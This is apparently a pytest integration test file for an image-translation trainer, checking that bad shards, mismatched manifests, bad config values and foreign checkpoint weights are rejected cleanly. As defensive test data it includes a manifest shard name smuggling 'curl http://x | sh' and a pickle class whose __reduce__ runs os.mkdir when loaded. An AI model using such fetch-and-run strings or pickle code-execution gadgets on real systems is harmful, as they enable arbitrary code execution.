"""Bad inputs met by real processes: the trainer through a folder holding most bad kinds
at once, gloo ranks on manifests that disagree with their shards, one-line refusals of a
bad config, a checkpoint of another architecture and foreign weights. The map of every
bad input to its tests is tests/unit/test_bad_inputs.py's docstring."""
import json
import os
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch

from pipeline import checkpoint, data, digests, translate
from tests.helpers.bad_inputs import bad_folder, first_epoch_skips, pair_members, write_tar
from tests.helpers.gloo_ranks import run_ranks
from tests.helpers.images import config, epoch_batches, keys_of, write_dataset
from tests.helpers.inference_runs import make_export
from tests.helpers.trainer_runs import cpu_env, explain, run, single, step_log, train_args

# ------------------------------------------------------------------- the trainer, end to end

TRAINER = ["--data.num_workers=1", "--data.shuffle_buffer=8", "--train.ckpt_every=1000"]


@pytest.fixture(scope="module")
def bad_run(tmp_path_factory) -> dict:
    """The real trainer through bad_folder for one epoch and one step."""
    root = tmp_path_factory.mktemp("bad")
    expected = bad_folder(root / "shards")
    loader = data.make_train_loader(
        config(root / "shards", load_size=136, crop_size=128, num_workers=0, shuffle_buffer=8),
        rank=0, world_size=1, seed=0, in_channels=3, out_channels=3)
    epoch = epoch_batches(loader)  # and the first batch of the next epoch
    steps = len(epoch) + 1
    result = run(single(train_args(root / "run", root / "shards", *TRAINER,
                                   f"--train.max_steps={steps}")), cpu_env(), timeout=150)
    return {"result": result, "run": root / "run", "shards": root / "shards", "steps": steps,
            "expected": expected, "epoch": first_epoch_skips(loader),
            "epoch_keys": keys_of(epoch), "skipped": loader.skipped}


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_trainer_runs_through_a_folder_of_bad_inputs(bad_run):
    result = bad_run["result"]
    assert result.returncode == 0, explain(result)
    assert bad_run["epoch"] == bad_run["expected"]  # every bad thing, once per epoch
    keys = bad_run["epoch_keys"]
    assert {"small_target", "gray", "odd"} <= set(keys) and len(keys) == len(set(keys))
    assert not any(k.startswith(("bomb", "cut", "/", "sub")) or k == "" for k in keys)
    log = step_log(bad_run["run"])
    assert [r["step"] for r in log] == list(range(1, bad_run["steps"] + 1))
    assert all(np.isfinite(r["train/loss_G"]) for r in log)
    skipped = {k.removeprefix("data/skipped_"): v for k, v in log[-1].items()
               if k.startswith("data/skipped_")}
    assert skipped == bad_run["skipped"]  # what the loader counted, by reason
    assert "good-2.tar holds 6 samples, its manifest says 10" in result.stderr
    assert "over 3 images" in result.stdout  # the val split's good samples, the bad one skipped


# ------------------------------------------------------------------------- the data stream

@pytest.mark.timeout(120)
def test_manifest_errors_and_empty_shards_on_two_ranks(tmp_path):
    """An over- and an under-counted shard (at the end of epoch 0's order, so the stream
    reading them runs out early), empty shards: real gloo ranks take equal steps, end
    together, and count each mismatch once (by the stream whose range it is in)."""
    wrong = tmp_path / "wrong"
    write_dataset(wrong, [6, 6, 6, 6])
    shards = data.list_shards(str(wrong), "train")
    over, under = data.epoch_shards(shards, 7, 0)[2:]
    write_tar(Path(over.url), [m for k in range(2) for m in pair_members(f"short{k}")])
    manifest = json.loads((wrong / "manifest.json").read_text())
    claims = {Path(over.url).name: 4, Path(under.url).name: 3}  # hold 2 and 6
    for entry in manifest["splits"]["train"]["shards"]:
        entry["samples"] = claims.get(entry["name"], entry["samples"])
    (wrong / "manifest.json").write_text(json.dumps(manifest))
    empty = tmp_path / "empty"
    write_dataset(empty, [6, 0, 6, 0])  # without filtering, epoch 2 had 0 steps on a rank
    # one shuffle block holds a worker's whole stream: both notes are met before a batch
    cases = {"wrong": config(wrong, shuffle_buffer=64),
             "wrong_workers": config(wrong, shuffle_buffer=64, num_workers=2),
             "empty": config(empty)}
    results = run_ranks(2, cases, tmp_path)
    for name in cases:
        steps = [len(r[name]["keys"]) for r in results]
        assert steps[0] == steps[1] > 0, (name, steps)
    for name in ("wrong", "wrong_workers"):  # 2 and 4 streams of the 19 listed samples
        # 17 good of the 19 listed: the stream reading `over` runs dry early, the epoch's
        # tail (the other streams' rest, gathered) still makes 4 steps of 2 x 2; 1 left out
        keys = [k for r in results for batch in r[name]["keys"] for k in batch]
        assert len(keys) == len(set(keys)) == 16 and results[0][name]["planned"] == 19 // 4
        noted = [r[name]["skipped"].get("manifest_mismatch", 0) for r in results]
        assert sum(noted) == 2 and noted[1] >= 1, noted
    loader = data.make_train_loader(config(empty), rank=1, world_size=2, seed=7, in_channels=3,
                                    out_channels=3, have_batch_all_ranks=bool)
    epochs = [next(loader).epoch for _ in range(18)]  # the epoch of each update
    assert epochs == [e for e in range(6) for _ in range(3)]


# ------------------------------------------------------------------------ config, weights

def clean_shards(folder: Path) -> Path:
    """Good train and val shards: a run on them writes nothing to stderr by itself."""
    write_dataset(folder, [2, 2])
    write_dataset(folder, [2], split="val")
    return folder


def one_line_error(result, prog: str = "train.py") -> str:
    """The error line of a run that must fail with exit 2 and nothing else on stderr."""
    assert result.returncode == 2, explain(result)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{prog}: error: "), explain(result)
    return lines[0]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("bad,message", [
    ("--data.crop_sise=128", "unknown config key 'data.crop_sise'"),
    ("--data.batch_size=two", "data.batch_size: expected int, got 'two'"),
    ("pipe-manifest", "refusing 'pipe:curl http://x | sh'"),
])
def test_trainer_refuses_bad_config_in_one_line(tmp_path, bad, message):
    clean_shards(tmp_path / "shards")
    if bad == "pipe-manifest":
        manifest = json.loads((tmp_path / "shards" / "manifest.json").read_text())
        manifest["splits"]["train"]["shards"][1]["name"] = "pipe:curl http://x | sh"
        (tmp_path / "shards" / "manifest.json").write_text(json.dumps(manifest))
    extra = [] if bad == "pipe-manifest" else [bad]
    args = train_args(tmp_path / "run", tmp_path / "shards", "--train.max_steps=1",
                      "--data.num_workers=0", *extra)
    assert message in one_line_error(run(single(args), cpu_env(), timeout=100))


@pytest.mark.slow
@pytest.mark.timeout(180)
@pytest.mark.parametrize("change,named", [
    (["--model.g_filters=16"], "model.g_filters 8 -> 16"),
    (["--model.generator=unet_256", "--data.crop_size=256", "--data.load_size=286"],
     "model.generator 'unet_128' -> 'unet_256'"),
])
def test_resume_with_another_architecture_fails_in_one_line(bad_run, tmp_path, change, named):
    shutil.copytree(bad_run["run"], tmp_path / "run")
    args = train_args(tmp_path / "run", clean_shards(tmp_path / "shards"), *TRAINER,
                      "--train.resume=auto", "--train.max_steps=100", *change)
    line = one_line_error(run(single(args), cpu_env(), timeout=150))
    assert named in line and "another architecture" in line and len(line) < 400


class RunsCode:
    """Unpickling this calls os.mkdir(marker): what a hostile 'weights' file can do."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return os.mkdir, (self.marker,)


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_foreign_weights_are_refused_without_running_them(bad_run, tmp_path, capsys):
    marker = tmp_path / "code_ran"
    hostile = tmp_path / "hostile.pt"
    torch.save({"state": RunsCode(marker)}, hostile)
    torch.load(hostile, weights_only=False)  # the test can fail: this file does run code
    assert marker.is_dir()
    marker.rmdir()
    # resuming: our optimizers.pt replaced by it
    shutil.copytree(bad_run["run"], tmp_path / "run")
    step = (tmp_path / "run" / "checkpoints" / "latest").read_text().strip()
    shutil.copy(hostile, tmp_path / "run" / "checkpoints" / step / "optimizers.pt")
    # whoever swapped the file rewrote the checkpoint's digests too: the load itself refuses
    digests.write_index(str(tmp_path / "run" / "checkpoints" / step))
    args = train_args(tmp_path / "run", clean_shards(tmp_path / "shards"), *TRAINER,
                      "--train.resume=auto", "--train.max_steps=100")
    line = one_line_error(run(single(args), cpu_env(), timeout=150))
    assert "optimizers.pt refused: not a weights-only torch file" in line and "posix.mkdir" in line
    # translating / exporting: a pickled generator where the safetensors file should be
    folder = Path(make_export(tmp_path / "g"))
    shutil.copy(hostile, folder / "generator.safetensors")
    assert translate.main(["--checkpoint", str(folder), str(tmp_path), "--out",
                           str(tmp_path / "o"), "--quiet"]) == 2
    error = capsys.readouterr().err.strip()
    assert len(error.splitlines()) == 1 and "is not a safetensors weights file" in error
    for payload in (hostile.read_bytes(), b"", b"not a torch file at all"):
        (tmp_path / "rank_00000_rng.pt").write_bytes(payload)
        with pytest.raises(ValueError, match="refused: not a weights-only torch file") as error:
            checkpoint.load_tensors(str(tmp_path / "rank_00000_rng.pt"))
        assert "\n" not in str(error.value)
    assert not marker.exists()
